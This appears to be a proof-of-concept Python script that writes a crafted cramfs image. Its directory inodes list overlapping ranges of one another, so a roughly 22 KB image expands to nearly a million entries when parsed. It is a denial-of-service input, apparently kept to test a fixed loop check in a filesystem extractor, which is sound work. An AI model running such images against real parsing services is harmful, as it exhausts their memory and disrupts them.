#!/usr/bin/env python3
"""cramfs: M directory inodes in a row, directory j listing inodes j+1..M-1
(overlapping listings, each at a distinct offset so the loop check lets it
through). M inodes (16 bytes each) list ~M^2/2 entries: close to a
million from a ~22 KB image, every entry and artifact held until the run
ends (before CramFS stopped at an entry another directory listed)."""
import struct, sys
M = int(sys.argv[1]) if len(sys.argv) > 1 else 1400
out = sys.argv[2] if len(sys.argv) > 2 else f"/tmp/cramfs_overlap_dirs_{M}.bin"
SB = 76
def inode(mode, size, namelen, offset):
    assert offset % 4 == 0 and namelen % 4 == 0
    return struct.pack('<III', mode, size & 0xffffff, (namelen // 4) | ((offset // 4) << 6))
region = bytearray()
pos = lambda j: SB + 16 * j
for j in range(M):
    region += inode(0o040755, 16 * (M - j - 1), 4, pos(j + 1)) + b'd%03x' % (j % 4096) if False else \
              inode(0o040755, 16 * (M - j - 1), 4, pos(j + 1)) + (b'%04x' % (j % 65536))
img = bytearray(SB) + region
struct.pack_into('<I', img, 0, 0x28cd3d45)
struct.pack_into('<I', img, 4, len(img))
struct.pack_into('<I', img, 8, 0)
img[16:32] = b'Compressed ROMFS'
struct.pack_into('<I', img, 44, M)
img[64:76] = inode(0o040755, 16 * M, 0, pos(0))
open(out, 'wb').write(img)
print(out, len(img))
